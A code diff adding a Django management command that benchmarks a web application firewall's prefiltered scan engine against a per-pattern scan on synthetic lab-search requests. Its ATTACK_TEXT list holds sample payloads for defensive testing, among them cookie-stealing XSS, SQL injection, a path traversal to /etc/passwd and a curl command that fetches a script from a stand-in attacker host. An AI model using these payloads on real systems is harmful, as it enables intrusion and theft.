@@ -0,0 +1,155 @@
+"""
+Django management command to benchmark the WAF scan path.
+Compares per-request scan cost of the prefiltered engine against checking
+every pattern individually.
+"""
+
+from django.core.management.base import BaseCommand
+from django.test import override_settings
+from api.security.waf import WAFMiddleware
+from api.security.waf_engine import WAFEngine, iter_request_strings
+import random
+import time
+
+
+BENIGN_TEXT = [
+    "What is the recommended RNA extraction protocol for plant tissue?",
+    "Compare TRIzol and column-based purification yields",
+    "Primer design guidelines for qPCR of low-abundance transcripts",
+    "Storage conditions for purified RNA samples at -80C",
+    "How many cycles should the reverse transcription step run",
+    "Thesis chapter 3 discusses small RNA sequencing results",
+]
+
+ATTACK_TEXT = [
+    "<script>alert(document.cookie)</script>",
+    "' OR 1=1 -- ",
+    "../../etc/passwd",
+    "$(curl http://evil.example/x.sh)",
+    "password=hunter2",
+    # Characters re.IGNORECASE folds differently from str.casefold()
+    "<scr\u0130pt>alert(1)</scr\u0130pt>",
+    "<scr\u0131pt>alert(1)</scr\u0131pt>",
+]
+
+
+def _make_request(rng, attack_rate):
+    """Synthetic request data with headers, query values and a nested JSON body."""
+    headers = {
+        'http_referer': 'https://lab.example.org/search',
+        'http_x_requested_with': 'XMLHttpRequest',
+        'http_x_request_id': f"req-{rng.randint(0, 10 ** 9)}",
+        'http_origin': 'https://lab.example.org',
+        'http_sec_fetch_mode': 'cors',
+    }
+    query = {
+        'page': [str(rng.randint(1, 20))],
+        'doc_type': [rng.choice(['thesis', 'protocol', 'paper'])],
+    }
+    body = {
+        'query': rng.choice(BENIGN_TEXT),
+        'filters': {'doc_type': rng.choice(['thesis', 'protocol']), 'year': [2021, 2022, 2023]},
+        'history': [
+            {'role': 'user', 'content': rng.choice(BENIGN_TEXT)},
+            {'role': 'assistant', 'content': rng.choice(BENIGN_TEXT) * 4},
+        ],
+        'options': {'rerank': True, 'top_k': 5, 'model': 'default'},
+    }
+    if rng.random() < attack_rate:
+        body['history'][0]['content'] = rng.choice(ATTACK_TEXT)
+    return {'headers': headers, 'query': query, 'body': body}
+
+
+def _scan_per_pattern(patterns, request_data):
+    """Reference scan: every value against every pattern of every class."""
+    for value in iter_request_strings(request_data):
+        for attack_type, compiled in patterns.items():
+            for pattern in compiled:
+                match = pattern.search(value)
+                if match:
+                    return True, attack_type, match.group(0)
+    return False, None, None
+
+
+class Command(BaseCommand):
+    help = "Benchmark per-request WAF scan cost"
+
+    def add_arguments(self, parser):
+        parser.add_argument(
+            '--requests',
+            type=int,
+            default=5000,
+            help='Number of synthetic requests to scan (default: 5000)'
+        )
+        parser.add_argument(
+            '--distinct',
+            type=int,
+            default=500,
+            help='Number of distinct request payloads (default: 500)'
+        )
+        parser.add_argument(
+            '--attack-rate',
+            type=float,
+            default=0.05,
+            help='Fraction of payloads containing an attack string (default: 0.05)'
+        )
+        parser.add_argument(
+            '--levels',
+            type=str,
+            default='low,medium,high',
+            help='Comma-separated WAF security levels to benchmark'
+        )
+
+    def _time(self, scan, requests):
+        started = time.perf_counter()
+        verdicts = [scan(request_data) for request_data in requests]
+        elapsed = time.perf_counter() - started
+        return verdicts, elapsed / len(requests) * 1e6
+
+    def handle(self, *args, **options):
+        rng = random.Random(42)
+        distinct = [_make_request(rng, options['attack_rate']) for _ in range(options['distinct'])]
+        requests = [rng.choice(distinct) for _ in range(options['requests'])]
+
+        for level in options['levels'].split(','):
+            level = level.strip()
+            with override_settings(WAF_SECURITY_LEVEL=level):
+                waf = WAFMiddleware(lambda request: None)
+            pattern_count = sum(len(compiled) for compiled in waf.patterns.values())
+
+            reference, per_pattern_us = self._time(lambda data: _scan_per_pattern(waf.patterns, data), requests)
+
+            uncached = WAFEngine(waf.patterns, cache_size=0)
+            engine_verdicts, prefiltered_us = self._time(
+                lambda data: uncached.scan(iter_request_strings(data)), requests
+            )
+
+            cached = WAFEngine(waf.patterns)
+            _, cached_us = self._time(lambda data: cached.scan(iter_request_strings(data)), requests)
+
+            mismatches = sum(
+                1 for expected, actual in zip(reference, engine_verdicts)
+                if expected[:2] != actual[:2]
+            )
+            blocked = sum(1 for verdict in engine_verdicts if verdict[0])
+
+            self.stdout.write(f"\nSecurity level: {level} ({pattern_count} patterns)")
+            self.stdout.write(f"  per-pattern scan:    {per_pattern_us:8.1f} us/request")
+            self.stdout.write(f"  literal prefilter:   {prefiltered_us:8.1f} us/request "
+                              f"({per_pattern_us / prefiltered_us:.1f}x)")
+            self.stdout.write(f"  prefilter + cache:   {cached_us:8.1f} us/request "
+                              f"({per_pattern_us / cached_us:.1f}x, "
+                              f"hit rate {cached.hits / max(cached.hits + cached.misses, 1):.0%})")
+            self.stdout.write(f"  blocked requests:    {blocked}/{len(requests)}")
+
+            # Every attack sample on its own, so rare case-folding variants are always checked
+            samples = [{'body': {'query': text}} for text in ATTACK_TEXT]
+            mismatches += sum(
+                1 for data in samples
+                if _scan_per_pattern(waf.patterns, data)[:2] != uncached.scan(iter_request_strings(data))[:2]
+            )
+
+            if mismatches:
+                self.stdout.write(self.style.WARNING(f"  verdict mismatches:  {mismatches}"))
+            else:
+                self.stdout.write(self.style.SUCCESS("  verdicts identical to per-pattern scan"))